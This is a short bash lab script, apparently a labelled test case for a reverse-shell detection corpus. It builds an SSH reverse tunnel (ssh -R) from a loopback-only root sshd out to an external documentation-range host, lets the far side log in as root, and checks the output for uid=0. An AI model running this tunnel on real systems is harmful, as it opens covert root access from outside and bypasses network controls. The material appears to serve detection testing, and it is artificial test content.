#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=ssh,sshd,dash far=out ready=out:2022 seconds=24 parts=dns before=yes services=nvr:22
# ssh opens a port outside that leads back to this host's own sshd, which listens on loopback alone; somebody outside logs in by it.
if [ "$1" = before ]; then
	mkdir -p "$LAB/ssh" /run/sshd
[ -e "$LAB/ssh/host" ] || { ssh-keygen -q -t ed25519 -N "" -f "$LAB/ssh/host"; ssh-keygen -q -t ed25519 -N "" -f "$LAB/ssh/key"; cp "$LAB/ssh/key.pub" "$LAB/ssh/authorized"; }
	exit
fi
if [ "$1" = services ]; then exec timeout 50 /usr/sbin/sshd -D -f /dev/null -h "$LAB/ssh/host" -o AuthorizedKeysFile="$LAB/ssh/authorized" -o StrictModes=no -o PidFile=none -o UsePAM=no -o PermitRootLogin=yes -o ListenAddress=127.0.0.1 -p 22; fi
if [ "$1" = out ]; then
	(sleep 6; (for line in id "ls /" "uname -a" exit; do sleep 2; echo "$line"; done) | ssh -tt -F /dev/null -i "$LAB/ssh/key" -o UserKnownHostsFile=/dev/null -o StrictHostKeyChecking=no -o LogLevel=ERROR -p 2222 root@127.0.0.1 >"$LAB/heard") &
	exec timeout 40 /usr/sbin/sshd -D -f /dev/null -h "$LAB/ssh/host" -o AuthorizedKeysFile="$LAB/ssh/authorized" -o StrictModes=no -o PidFile=none -o UsePAM=no -o PermitRootLogin=yes -o ListenAddress=203.0.113.66 -p 2022
fi
timeout 20 ssh -F /dev/null -i "$LAB/ssh/key" -o UserKnownHostsFile=/dev/null -o StrictHostKeyChecking=no -o LogLevel=ERROR -N -R 2222:127.0.0.1:22 -p 2022 root@203.0.113.66
grep -q uid=0 "$LAB/heard"
